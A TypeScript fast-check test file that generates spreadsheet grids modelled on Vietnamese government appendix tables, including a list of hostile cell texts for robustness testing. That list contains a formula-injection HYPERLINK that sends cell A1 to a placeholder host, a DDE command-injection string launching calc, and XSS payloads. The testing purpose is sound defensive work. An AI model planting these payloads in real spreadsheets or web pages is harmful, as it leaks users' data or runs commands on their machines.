import fc from "fast-check";
import type { Area, CellValue, Grid } from "../../src/domain/grid";

/** Texts that nobody would type into an appendix, or only to harm: formulas, markup, broken letters, other encodings, sheer length. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://x.invalid/?"&A1,"Mở")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "'",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<b",
  "** **",
  "\u202engược\u202c",
  "\u200b\ufeff\u00ad",
  `a${String.fromCharCode(0)}b${String.fromCharCode(7)}c`,
  "\ud800",
  "\udc00x",
  "e\u0323\u0302\u0301",
  "x".repeat(32_767),
  "Rà soát (kết quả) ".repeat(1_820),
  "9".repeat(400),
  "\n".repeat(500),
  "Së Tµi chÝnh",
  "Sôû Taøi chính",
  "São Paulo, Größe, 25°C",
  "#REF!",
  "{=A1}",
  "__proto__",
  "constructor",
];
const APPENDIX_TEXTS: readonly string[] = [
  ..."TT|STT|Nội dung|Nhiệm vụ|Cơ quan chủ trì|Cơ quan phối hợp|Thời gian hoàn thành|Kết quả|Ghi chú|Tình trạng".split(
    "|",
  ),
  ..."I|II.|A|B.|1|2|03|1.1|1.1.1.1.1.1|a)|b)|-|+|(1)|(2)|IV|Ⅳ|1a|999999999999|Tổng cộng|Nơi nhận:|PHỤ LỤC".split("|"),
  ..."TM. ỦY BAN NHÂN DÂN|Phần I. CÔNG TÁC CHỈ ĐẠO|Số 12/QĐ-UBND ngày 05/01/2024|Ghi chú: theo kế hoạch".split("|"),
  ..."Rà soát quy hoạch|Sở Tài chính|Sở Xây dựng, Sở Y tế|UBND các huyện Hóa,\nDakrông|Các sở, ban ngành".split("|"),
  ..."nt|-nt-|như trên|\"|''|…|Quý II/2024|Trước 15/6|Hằng quý|31/6|Thường xuyên|Năm 2099|Đã hoàn thành|50%".split("|"),
];
const NUMBERS = [0, -0, 1, 2, 3, 2024, 45_473, 45_473.999, 60, -1, 2_958_466, 1e308, -1e308, 5e-324, 0.1 + 0.2];
const FORMATS = ["General", "@", "dd/mm/yyyy", "mmm-yy", "[h]:mm", "0%", '[Red][<0]"x"', '"', "[", "yyyy", ";;;"];

const value: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constant(null) },
  { weight: 10, arbitrary: fc.constantFrom(...APPENDIX_TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
);

const HEADER: readonly CellValue[] = "TT|Nội dung|Cơ quan chủ trì|Phối hợp|Thời hạn|Kết quả|Ghi chú".split("|");

/** Merged areas anywhere: over each other, beyond the grid, of a single cell. */
const merge: fc.Arbitrary<Area> = fc
  .tuple(fc.integer({ min: 1, max: 16 }), fc.integer({ min: 1, max: 10 }), fc.nat(5), fc.nat(3))
  .map(([top, left, height, width]) => ({ top, left, bottom: top + height, right: left + width }));

const WIDTH = 8;
const filled = (cells: readonly CellValue[]): CellValue[] =>
  Array.from({ length: WIDTH }, (_, at) => cells[at] ?? null);
const row = fc.oneof(
  { weight: 12, arbitrary: fc.array(value, { minLength: WIDTH, maxLength: WIDTH }) },
  { weight: 1, arbitrary: fc.constant([...HEADER, null]) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<CellValue[]>(["II", "TỔ CHỨC THỰC HIỆN"], ["A", "Công tác chỉ đạo"]).map(filled),
  },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: WIDTH }, () => null)) },
);

/** Any grid: what an appendix may say and what none says, in any order, nearly always with a header somewhere. */
export const anyGrid = ({ merges = 3, maxRows = 12 } = {}): fc.Arbitrary<Grid> =>
  fc
    .record({
      above: fc.array(row, { maxLength: 3 }),
      header: fc.constantFrom<readonly (readonly CellValue[])[]>([[...HEADER, null]], [[null, ...HEADER]], []),
      below: fc.array(row, { maxLength: maxRows }),
      formats: fc.array(fc.constantFrom(...FORMATS), { minLength: 11, maxLength: 11 }),
      merges: fc.array(merge, { maxLength: merges }),
      top: fc.constantFrom(1, 1, 3),
      left: fc.constantFrom(1, 1, 2),
    })
    .map(({ above, header, below, formats, merges: areas, top, left }) => {
      const rows = [...above, ...header, ...below];
      return {
        sheet: "Phụ lục",
        top,
        left,
        // As a Grid has it: an empty text is an empty cell.
        values: rows.map((cells) => cells.map((one) => (one === "" ? null : one))),
        numberFormats: rows.map((cells, r) =>
          cells.map((one, c) =>
            typeof one === "number" ? (formats[(r * WIDTH + c) % formats.length] ?? "General") : "General",
          ),
        ),
        formulas: rows.map((cells) => cells.map(() => null)),
        merges: areas,
      };
    });

const said = (own: readonly string[]): fc.Arbitrary<CellValue> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...own) },
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
    { weight: 1, arbitrary: fc.constant(null) },
  );
const spoiltRow = fc.tuple(
  said(["Rà soát quy hoạch", "Ban hành kế hoạch.", "Báo cáo kết quả theo"]),
  said(["Sở Tài chính", "Sở Xây dựng, Sở Y tế", "Các sở, ban ngành", "UBND các huyện Hóa,\nDakrông"]),
  said(["Sở Tư pháp", "nt"]),
  said(["Quý II/2024", "Trước 15/6", "Hằng quý", "31/6", "Năm 2024"]),
  said(["Báo cáo", "Kế hoạch"]),
  said([""]),
);

/** An appendix whose rows are numbered and whose cells say anything: what stands where is clear, what it says is not. */
export const spoiltAppendix: fc.Arbitrary<readonly (readonly CellValue[])[]> = fc
  .array(spoiltRow, { minLength: 1, maxLength: 8 })
  .map((rows) => [
    HEADER,
    ["I", "CÔNG TÁC CHỈ ĐẠO"],
    ...rows.map((cells, at) => [at + 1, ...cells.map((one) => (one === "" ? null : one))]),
  ]);
